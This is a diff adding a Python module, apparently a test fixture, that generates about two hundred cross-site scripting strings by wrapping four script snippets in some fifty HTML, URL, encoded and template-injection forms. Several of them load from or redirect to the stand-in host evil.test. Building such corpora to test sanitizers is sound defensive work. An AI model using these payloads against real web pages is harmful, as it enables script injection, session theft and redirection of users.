@@ -1,0 +1,61 @@
+"""What people type who would rather be programmers: scripts in every dress that text can wear."""
+
+from __future__ import annotations
+
+from itertools import product
+
+RUN = ("alert(1)", "print()", "document.title='run'", "fetch('//evil.test')")
+DRESSES = (
+    "<script>{}</script>",
+    "<ScRiPt >{}</sCrIpT>",
+    "</title><script>{}</script>",
+    "</script><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<img src=x onerror=&#97;lert(1)>",
+    '"><img src=x onerror="{}">',
+    "'><svg onload='{}'>",
+    "<svg/onload={}>",
+    "<svg><animate onbegin={} attributeName=x>",
+    "<svg><script>{}</script>",
+    "<math href=javascript:{}>x</math>",
+    "<a href=javascript:{}>x</a>",
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    "data:text/html,<script>{}</script>",
+    "<iframe src=javascript:{}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<body onload={}>",
+    "<input autofocus onfocus={}>",
+    "<details open ontoggle={}>x",
+    "<video><source onerror={}>",
+    "<audio src=x onerror={}>",
+    "<object data=javascript:{}>",
+    "<embed src=javascript:{}>",
+    "<form action=javascript:{}><button>x",
+    "<meta http-equiv=refresh content=0;url=//evil.test>",
+    "<base href=//evil.test>",
+    "<link rel=stylesheet href=//evil.test>",
+    "<style>@import '//evil.test';</style>",
+    "<p style=background:url(//evil.test)>x",
+    "<template><script>{}</script></template>",
+    "{{{{{}}}}}",
+    "${{{}}}",
+    "{{@html '<b>x</b>'}}{}",
+    "<!--<img src=--><img src=x onerror={}//>",
+    "<![CDATA[<script>{}</script>]]>",
+    "%3Cscript%3E{}%3C/script%3E",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "\\u003cscript\\u003e{}",
+    "';{};//",
+    '"+{}+"',
+    "`${{{}}}`",
+    "__proto__ {}",
+    "constructor {}",
+    "\u202e<script>{}</script>\u202c",
+    "\u2066<b>{}\u2069",
+    "Z\u0351\u0352a\u0353\u0354l\u0355g\u0356o\u0357 {}",
+    "\ufeff<script>{}</script>",
+    "<x onclick={}>click",
+)
+PAYLOADS = tuple(dict.fromkeys(dress.format(run) for dress, run in product(DRESSES, RUN)))
+"""About two hundred."""
